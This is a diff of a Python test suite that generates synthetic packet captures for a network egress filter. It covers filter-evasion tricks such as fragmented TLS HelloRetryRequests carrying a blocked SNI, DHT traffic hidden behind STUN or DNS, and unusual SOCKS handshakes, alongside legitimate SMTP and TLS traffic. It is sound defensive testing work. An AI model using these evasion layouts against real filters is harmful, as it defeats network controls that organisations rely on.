+    t = rt25_session(cap, 52054, 52054, 81054, n)
+    base = t.sseq
+    k = 300
+    recs = [marked_record(passm(n) + b"%03d" % i, n + "m%d" % i, 40) for i in range(k)]
+    off = 0
+    for r in recs:
+        t.raw(False, "PA", r, seq=base + off, gap=300)
+        off += len(r)
+    t.sseq = base + off
+    cap.idle(0.05)
+    # the client got the first 256 (aduana's header log holds 256 records a direction;
+    # it drops the 257th and holds/drops the rest): it acknowledges those
+    got = 256
+    for i in range(0, got, 2):
+        t.raw(True, "A", ack=base + sum(len(r) for r in recs[:i + 2]), gap=200)
+    # the server's retransmission timeout: the rest again, then the client's ACKs
+    off = sum(len(r) for r in recs[:got])
+    for r in recs[got:]:
+        t.raw(False, "PA", r, seq=base + off, gap=300 if off else 250000)
+        off += len(r)
+    t.raw(True, "A", ack=base + off, gap=200)
+    t.data(True, tls_appdata(n + "req", 80))
+    t.close()
+    return cap, {"pass": [passm(n) + b"%03d" % i for i in (0, 150, 299)]}
+
+
+# --- rt25, fourth batch
+
+@case
+def case_smtplib_ok(n):
+    """Python's smtplib (cron jobs, monitoring, scripts): lower-case verbs ('ehlo',
+    'mail FROM:', 'rcpt TO:', 'data', 'quit'), upper-case STARTTLS-less plain SMTP."""
+    cap = Capture()
+    t = ETcp(cap, S1, 52060, MAIL, 25, isn=52060, rtt_us=4000)
+    t.handshake()
+    t.data(False, b"220 mail.customs.example ESMTP Postfix (Debian/GNU)\r\n")
+    t.data(True, b"ehlo ws-10.e2m.customs.example\r\n")
+    t.data(False, b"250-mail.customs.example\r\n250-PIPELINING\r\n250-SIZE 10240000\r\n"
+                  b"250-8BITMIME\r\n250 SMTPUTF8\r\n")
+    t.data(True, b"mail FROM:<declarant@e2m.customs.example> size=120\r\n")
+    t.data(False, b"250 2.1.0 Ok\r\n")
+    t.data(True, b"rcpt TO:<office@customs.example>\r\n")
+    t.data(False, b"250 2.1.5 Ok\r\n")
+    t.data(True, b"data\r\n")
+    t.data(False, b"354 End data with <CR><LF>.<CR><LF>\r\n")
+    t.data(True, b"From: declarant@e2m.customs.example\r\nSubject: nightly report\r\n\r\n" + passm(n) + b"\r\n.\r\n")
+    t.data(False, b"250 2.0.0 Ok: queued\r\n")
+    t.data(True, b"quit\r\n")
+    t.data(False, b"221 2.0.0 Bye\r\n")
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@open_case
+def case_exch_anontls_ok(n):
+    """Exchange transport between servers of one organisation (Hub/Edge): after EHLO the
+    client sends X-ANONYMOUSTLS (Exchange's own STARTTLS), the server answers 220, and
+    TLS follows."""
+    cap = Capture()
+    t = ETcp(cap, S1, 52061, MAIL, 25, isn=52061, rtt_us=4000)
+    t.handshake()
+    t.data(False, b"220 mail.customs.example Microsoft ESMTP MAIL Service ready\r\n")
+    t.data(True, b"EHLO ws-10.e2m.customs.example\r\n")
+    t.data(False, b"250-mail.customs.example Hello [10.10.1.10]\r\n250-SIZE\r\n250-PIPELINING\r\n"
+                  b"250-STARTTLS\r\n250-X-ANONYMOUSTLS\r\n250-AUTH NTLM\r\n250-X-EXPS GSSAPI NTLM\r\n"
+                  b"250-8BITMIME\r\n250-BINARYMIME\r\n250-CHUNKING\r\n250 XEXCH50\r\n")
+    t.data(True, b"X-ANONYMOUSTLS\r\n")
+    t.data(False, b"220 2.0.0 SMTP server ready\r\n")
+    t.data(True, hello(n, sni="mail.customs.example"))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(passm(n), n + "req", 400))
+    t.data(False, tls_appdata(n + "resp", 60))
+    t.close()
+    return cap, {"pass": [passm(n)]}
+
+
+def rt25_hello_exts(seed, exts, sid=None, ciphers=CIPHERS):
+    eb = b"".join(exts)
+    sid = prand(seed + "s", 32) if sid is None else sid
+    body = (b"\x03\x03" + prand(seed + "r", 32) + bytes([len(sid)]) + sid
+            + struct.pack("!H", len(ciphers)) + ciphers + b"\x01\x00" + struct.pack("!H", len(eb)) + eb)
+    return record(22, b"\x01" + struct.pack("!I", len(body))[1:] + body)
+
+
+def rt25_sni(name=E2M_NAME):
+    return ext(0, struct.pack("!H", len(name) + 3) + b"\x00" + struct.pack("!H", len(name)) + name.encode())
+
+
+@case
+def case_java_hello_ok(n):
+    """A Java 17/21 (JSSE) ClientHello: status_request_v2, signature_algorithms_cert,
+    extended_master_secret, session_ticket, psk modes, key shares x25519 and secp256r1
+    (a 65-byte point), supported_versions 1.3/1.2, renegotiation_info."""
+    sigs = struct.pack("!14H", 0x0403, 0x0503, 0x0603, 0x0804, 0x0805, 0x0806, 0x0809, 0x080A,
+                       0x080B, 0x0401, 0x0501, 0x0601, 0x0402, 0x0201)
+    groups = struct.pack("!7H", 29, 30, 23, 24, 25, 0x0100, 0x0101)
+    shares = struct.pack("!HH", 29, 32) + prand(n + "x", 32) + struct.pack("!HH", 23, 65) + b"\x04" + prand(n + "p", 64)
+    exts = [rt25_sni(), ext(5, b"\x01\x00\x00\x00\x00"), ext(10, struct.pack("!H", len(groups)) + groups),
+            ext(11, b"\x01\x00"), ext(13, struct.pack("!H", len(sigs)) + sigs),
+            ext(50, struct.pack("!H", len(sigs)) + sigs), ext(17, b"\x00\x0e\x02\x00\x04\x00\x00\x00\x00\x01\x00\x04\x00\x00\x00\x00"),
+            ext(23, b""), ext(35, b""), ext(43, b"\x04\x03\x04\x03\x03"), ext(45, b"\x01\x01"),
+            ext(51, struct.pack("!H", len(shares)) + shares), ext(0xFF01, b"\x00"),
+            ext(16, b"\x00\x0c\x02h2\x08http/1.1")]
+    ciphers = struct.pack("!12H", 0x1302, 0x1301, 0x1303, 0xC02C, 0xC02B, 0xCCA9, 0xC030, 0xCCA8,
+                          0xC02F, 0x009F, 0x009E, 0x00FF)
+    cap = Capture()
+    tls_flow(cap, S1, 52062, E2M, 52062, n, send_whole(rt25_hello_exts(n, exts, ciphers=ciphers)), passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_nosid_hello_ok(n):
+    """A TLS 1.3 ClientHello with an empty legacy_session_id (no middlebox compatibility
+    mode: mbedTLS, wolfSSL, embedded and IoT clients, OpenSSL with
+    SSL_OP_ENABLE_MIDDLEBOX_COMPAT cleared), SNI, key share, padding to 512 bytes."""
+    exts = [rt25_sni()] + std_exts(n) + [alpn_ext()]
+    size = len(b"".join(exts)) + 2 + 4 + 2 + 32 + 1 + 2 + len(CIPHERS) + 2 + 5
+    pad = ext(21, b"\x00" * max(0, 512 - size - 4))
+    cap = Capture()
+    tls_flow(cap, S1, 52063, E2M, 52063, n, send_whole(rt25_hello_exts(n, exts + [pad], sid=b"")), passm(n))
+    return cap, {"pass": [passm(n)]}
+
+
+@open_case
+def case_dns_many_ok(n):
+    """The e2m name resolves to 20 addresses (a cloud load balancer's pool, a
+    round-robin set); the client connects to the last one in the answer (RFC 6724 and
+    glibc's sort may pick any)."""
+    cap = Capture()
+    addrs = ["198.51.100.%d" % (210 + i) for i in range(20)]
+    an = DNSRR(rrname=E2M_NAME, type="A", ttl=300, rdata=addrs[0])
+    for a in addrs[1:]:
+        an = an / DNSRR(rrname=E2M_NAME, type="A", ttl=300, rdata=a)
+    ans = bytes(DNS(id=0x5164, qr=1, rd=1, ra=1, qd=DNSQR(qname=E2M_NAME, qtype="A"), an=an))
+    dns_learn_flow(cap, 52064, 0x5164, [ans])
+    cap.idle(0.01)
+    tls_flow(cap, S1, 52065, addrs[-1], 52065, n, send_whole(hello(n)), passm(n))
+    return cap, {"pass": [passm(n), ans]}
+
+
+# --- review of round 22's fixes
+
+@case
+def case_hrr_pipe_straddle(n):
+    """Review of round 22: first hello of 16382 bytes, so the CCS record header straddles the slot end."""
+    cap = Capture()
+    t = ETcp(cap, S1, 51023, FRONT, 443, isn=51023, rtt_us=20000)
+    t.handshake()
+    ch1 = hello_exact(n, FRONT_NAME, 16382)
+    mark = leak(n)
+    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
+    pad = ext(21, mark + b"\x00" * 40)
+    tail = CCS + hello(n, sni=EVIL, sid=sid, extra=[pad])
+    allb = ch1 + tail
+    for i in range(0, len(allb), 1400):
+        t.send(True, allb[i:i + 1400], gap=200)
+    t.ack(False)
+    t.data(False, hrr_flight(n))
+    t.data(False, server_hello_flight(n))
+    t.data(True, tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(mark, n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"leak": [mark]}
+
+
+@case
+def case_stun_dht(n):
+    """Review of round 22: STUN binding requests (named by nDPI, allowed by the office default), then
+    DHT queries on the same socket."""
+    import struct as _st
+    cap = Capture()
+    for i in range(3):
+        tid = prand(n + "tid%d" % i, 12)
+        attr = _st.pack("!HH", 0x0006, 4) + b"ab:c"   # USERNAME
+        msg = _st.pack("!HHI", 0x0001, len(attr), 0x2112A442) + tid + attr
+        udp(cap, O1, 44190, SOC, 3478, msg, gap=300)
+        udp(cap, SOC, 3478, O1, 44190, _st.pack("!HHI", 0x0101, 12, 0x2112A442) + tid
+            + _st.pack("!HHBBH", 0x0020, 8, 0, 1, 0x1234) + b"\x01\x02\x03\x04", gap=300)
+    for i in range(3):
+        udp(cap, O1, 44190, SOC, 3478, rt_dht_query(n + str(i), leak(n)))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_dns_dht(n):
+    """Review of round 22: a DNS query and answer (named by nDPI, allowed by the office default), then
+    DHT queries on the same socket to port 53."""
+    import struct as _st
+    cap = Capture()
+    q = _st.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + b"\x07example\x03org\x00" + _st.pack("!HH", 1, 1)
+    a = _st.pack("!HHHHHH", 0x1234, 0x8180, 1, 1, 0, 0) + b"\x07example\x03org\x00" + _st.pack("!HH", 1, 1) \
+        + b"\xc0\x0c" + _st.pack("!HHIH", 1, 1, 60, 4) + b"\x5d\xb8\xd8\x22"
+    udp(cap, O1, 44191, SOC, 53, q, gap=300)
+    udp(cap, SOC, 53, O1, 44191, a, gap=300)
+    for i in range(3):
+        udp(cap, O1, 44191, SOC, 53, rt_dht_query(n + str(i), leak(n)))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_blind_rst_ok(n):
+    """Review of round 22: office TLS session allowed; an off-path RST (seq far outside the window) from
+    'the server', which the client answers with a challenge ACK; the session goes on."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44192, SOC, 443, isn=44192, rtt_us=20000)
+    t.handshake()
+    t.data(True, hello(n, sni="www.example.org"))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, tls_appdata(n + "req", 200))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.raw(False, "R", seq=(t.sseq + 0x40000000) & 0xffffffff)
+    t.raw(True, "A")
+    t.data(True, marked_record(passm(n), n + "req2", 200))
+    t.data(False, marked_record(passm(n) + b"dn", n + "resp2", 400))
+    t.close()
+    return cap, {"pass": [passm(n), passm(n) + b"dn"]}
 
 
 # ------------------------------------------------------------------- main
@@ -7382,7 +8917,7 @@ def rt_hrr_frag_flight(seed, cut):
     return record(22, msg[:cut], 0x0303) + record(22, msg[cut:], 0x0303) + CCS
 
 
-@open_case
+@case
 def case_hrr_srvfrag_vk(n):
     """Office: HRR split over two records by the server (its random not contiguous in the
     stream); the second hello names m.vk.com. Must drop."""
@@ -7392,6 +8927,31 @@ def case_hrr_srvfrag_vk(n):
     ch1 = hello(n, sni="www.example.org")
     t.data(True, ch1)
     t.data(False, rt_hrr_frag_flight(n, 10))
+    sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
+    pad = ext(21, leak(n) + b"\x00" * 40)
+    t.data(True, CCS + hello(n, sni="m.vk.com", sid=sid, extra=[pad]))
+    t.data(False, server_hello_flight(n))
+    t.data(True, tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(leak(n), n + "req"))
+    t.data(False, tls_appdata(n + "resp", 400))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_hrr_srvfrag1_vk(n):
+    """Office: hrr_srvfrag_vk with the server's HRR in one-byte handshake records up to
+    past its random (RFC 8446 5.1 allows any fragmentation; 38 records, each read in
+    turn), in one segment; the second hello names m.vk.com. Must drop."""
+    cap = Capture()
+    t = ETcp(cap, O1, 44095, SOC, 443, isn=4495, rtt_us=20000)
+    t.handshake()
+    ch1 = hello(n, sni="www.example.org")
+    t.data(True, ch1)
+    whole = hrr_flight(n)
+    msg = whole[5:len(whole) - len(CCS)]
+    recs = b"".join(record(22, msg[i:i + 1], 0x0303) for i in range(40)) + record(22, msg[40:], 0x0303)
+    t.data(False, recs + CCS)
     sid = ch1[5 + 4 + 2 + 32 + 1:5 + 4 + 2 + 32 + 1 + 32]
     pad = ext(21, leak(n) + b"\x00" * 40)
     t.data(True, CCS + hello(n, sni="m.vk.com", sid=sid, extra=[pad]))
@@ -7496,6 +9056,65 @@ def case_socks4_longuid_p(n):
     """rt_socks4_longuid with the tunnelled hello in the request's segment."""
     req = b"\x04\x01\x01\xbb\x00\x00\x00\x01" + b"u" * 100 + b"\x00" + b"www.example.org\x00"
     return rt_socks4(n, 44037, 4437, req, leak(n), pipe=True), {"leak": [leak(n)]}
+
+
+def rt_socks5_raw(n, cport, isn, first, mark, replies):
+    """SOCKS5 to port 1080: the client's first segment `first` (greeting and what it
+    pipelines), the server's replies, then the tunnelled hello for www.example.org."""
+    cap = Capture()
+    t = ETcp(cap, O1, cport, SOC, 1080, isn=isn, rtt_us=20000)
+    t.handshake()
+    t.data(True, first)
+    for rep in replies:
+        t.data(False, rep)
+    t.data(True, hello(n, sni="www.example.org", sid=sid32(mark)))
+    t.data(False, server_hello_flight(n))
+    t.data(True, CCS + tls_appdata(n + "fin", 53))
+    t.data(True, marked_record(mark, n))
+    t.close()
+    return cap
+
+
+S5_REQ = b"\x05\x01\x00\x03\x0fwww.example.org\x01\xbb"
+S5_REP = b"\x05\x00\x00\x01" + bytes([203, 0, 113, 71]) + b"\x01\xbb"
+
+
+@case
+def case_socks5_m12(n):
+    """Office: a SOCKS5 greeting offering 12 methods (0-9, 0x80, 0x81: RFC 1928 lets a
+    client offer up to 255; Dante and ssh -D pick the one they take) alone in its
+    segment, then the request: proxy.sig wanted at most 9. Must drop (proxy)."""
+    g = b"\x05\x0c" + bytes(range(10)) + b"\x80\x81"
+    cap = Capture()
+    t = ETcp(cap, O1, 44096, SOC, 1080, isn=4496, rtt_us=20000)
+    t.handshake()
+    t.data(True, g)
+    t.data(False, b"\x05\x00")
+    t.data(True, S5_REQ)
+    t.data(False, S5_REP)
+    t.data(True, hello(n, sni="www.example.org", sid=sid32(leak(n))))
+    t.data(False, server_hello_flight(n))
+    t.data(True, marked_record(leak(n), n))
+    t.close()
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_socks5_userpass_pipe(n):
+    """Office: SOCKS5 greeting (user/password), the RFC 1929 subnegotiation and the
+    CONNECT request pipelined in one segment (Dante reads them in turn from the
+    stream). Must drop (proxy)."""
+    first = b"\x05\x01\x02" + b"\x01\x05alice\x06s3cret" + S5_REQ
+    return rt_socks5_raw(n, 44097, 4497, first, leak(n), [b"\x05\x02", b"\x01\x00", S5_REP]), \
+        {"leak": [leak(n)]}
+
+
+@case
+def case_socks4_binuid(n):
+    """Office: SOCKS4a whose user id has bytes past ASCII (ssh -D and Dante read it to
+    its NUL, whatever the bytes): proxy.sig wanted printable ones. Must drop (proxy)."""
+    req = b"\x04\x01\x01\xbb\x00\x00\x00\x01" + b"\xc3\xa9l\xc3\xa8ve\x01\x7f" + b"\x00" + b"www.example.org\x00"
+    return rt_socks4(n, 44098, 4498, req, leak(n)), {"leak": [leak(n)]}
 
 
 def rt_acks(t, k):
@@ -7932,7 +9551,7 @@ def case_dht_ctl(n):
     return cap, {"leak": [leak(n)]}
 
 
-@open_case
+@case
 def case_udpflood_dht(n):
     """Office: 40 datagrams of junk to a DHT node (libtorrent drops what does not bdecode;
     past classify_packets, nothing read: given up, allowed), then DHT queries on the same
@@ -7944,6 +9563,19 @@ def case_udpflood_dht(n):
     udp(cap, SOC, 6881, O1, 44092, b"d1:rd2:id20:" + prand(n + "nid", 20) + b"5:token8:"
         + prand(n + "tok", 8) + b"e1:t2:aa1:y1:re")
     return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_udpflood_junk_ok(n):
+    """Office: twin of udpflood_dht: an unknown protocol's datagrams past the budget (given
+    up, allowed), each read again by the payload signatures, and none of them a blocked
+    class's. Must pass, every datagram."""
+    cap = Capture()
+    for i in range(40):
+        udp(cap, O1, 44093, SOC, 6881, prand(n + "j%d" % i, 30), gap=300)
+    udp(cap, O1, 44093, SOC, 6881, b"\x17\x02" + passm(n) + prand(n + "tail", 40))
+    udp(cap, SOC, 6881, O1, 44093, b"\x18\x02" + prand(n + "ans", 40))
+    return cap, {"pass": [passm(n)]}
 
 
 RT_DECOY = "ex.a.org"   # the length of m.vk.com: the copies overlap byte for byte
